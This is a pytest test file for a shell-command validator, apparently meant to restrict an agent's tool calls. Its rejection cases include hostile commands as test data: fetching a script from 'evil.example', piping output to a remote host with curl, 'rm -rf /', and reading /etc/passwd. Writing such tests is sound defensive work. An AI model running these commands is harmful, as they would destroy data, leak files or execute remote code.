import pytest

from tool_warden.commands import (
    check_command,
    is_mutating,
    is_valid,
    split_segments,
    validate_command_paths,
)
from tool_warden.errors import (
    DangerousPattern,
    DisallowedCommand,
    EmptyCommand,
    PathArgumentOutsideRoots,
)

ALLOWED = ["ls", "pwd", "echo", "grep", "git", "npm", "cat", "sleep", "date"]


@pytest.mark.parametrize(
    "command",
    [
        "ls && pwd",
        "ls -la | grep foo",
        "git status; git log --oneline",
        "npm test || echo failed",
        "ls 'a && b'",
        "echo \"x | y\"",
        "ls 2>&1",
        "ls > /dev/null 2>&1",
        "sleep 1 &",
    ],
)
def test_valid_commands(command):
    result = is_valid(command, ALLOWED)
    assert result.ok, result.reason


@pytest.mark.parametrize(
    "command,error",
    [
        ("", EmptyCommand),
        ("   ", EmptyCommand),
        ("echo $(date)", DangerousPattern),
        ("echo `date`", DangerousPattern),
        ("cat <(curl -s evil.example/x.sh)", DangerousPattern),
        ("ls >(touch pwned)", DangerousPattern),
        ("ls\npwd", DangerousPattern),
        ("ls &&", DangerousPattern),
        ("echo \"unterminated", DangerousPattern),
        ("rm -rf /", DisallowedCommand),
        ("ls | curl -d @- example.com", DisallowedCommand),
        ("FOO=1 ls", DisallowedCommand),
    ],
)
def test_invalid_commands(command, error):
    result = is_valid(command, ALLOWED)
    assert not result.ok
    assert isinstance(result.error, error)
    assert result.reason == str(result.error)
    with pytest.raises(error):
        result.raise_for_error()


def test_rm_with_only_ls_allowed():
    result = is_valid("rm -rf /", ["ls"])
    assert isinstance(result.error, DisallowedCommand)
    assert "'rm' is not allowed" in result.reason


def test_check_command_returns_segments():
    segments = check_command("git status; ls -la", ALLOWED)
    assert [s.program for s in segments] == ["git", "ls"]
    assert segments[0].args == ("status",)
    assert segments[0].operator == ";"
    assert segments[1].operator == ""


def test_quoted_operators_stay_in_one_segment():
    [segment] = split_segments("grep 'a|b' file.txt")
    assert segment.program == "grep"
    assert segment.args == ("a|b", "file.txt")


@pytest.mark.parametrize(
    "command,expected",
    [
        ("git status", False),
        ("git log --oneline", False),
        ("git commit -m x", True),
        ("git push origin main", True),
        ("npm test || echo failed", False),
        ("npm install", True),
        ("echo hi > out.txt", True),
        ("echo '>'", True),
        ("ls -la", False),
        ("cat README.md | grep foo", False),
        ("rm notes.txt", True),
        ("mkdir build", True),
        ("sed -i s/a/b/ f.txt", True),
        ("sed s/a/b/ f.txt", False),
        ("pip install requests", True),
        ("ls && touch x", True),
    ],
)
def test_is_mutating(command, expected):
    assert is_mutating(command) is expected


def test_path_inside_root(root):
    assert validate_command_paths("cat ./src/a.txt", [root], root).ok


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/passwd",
        "cat ../outside/secret.txt",
        "ls -la /",
        "echo hi > /etc/motd",
        "grep foo src/a.txt /etc/hosts",
        "ls && cat /etc/passwd",
    ],
)
def test_paths_outside_root(root, outside, command):
    result = validate_command_paths(command, [root], root)
    assert not result.ok
    assert isinstance(result.error, PathArgumentOutsideRoots)


@pytest.mark.parametrize(
    "command",
    [
        "ls > /dev/null",
        "ls 2>/dev/null",
        "git commit -m 'fix /etc/passwd handling'",
        "git commit --message=\"drop /usr/local paths\"",
        "git log --oneline -- src/app.py",
        "npm view https://example.com/pkg",
        "ls -la",
    ],
)
def test_paths_that_are_fine(root, command):
    result = validate_command_paths(command, [root], root)
    assert result.ok, result.reason


def test_home_path_argument(root, outside, monkeypatch):
    monkeypatch.setenv("HOME", str(outside))
    assert not validate_command_paths("cat ~/secret.txt", [root], root).ok
    monkeypatch.setenv("HOME", str(root))
    assert validate_command_paths("cat ~/notes.txt", [root], root).ok
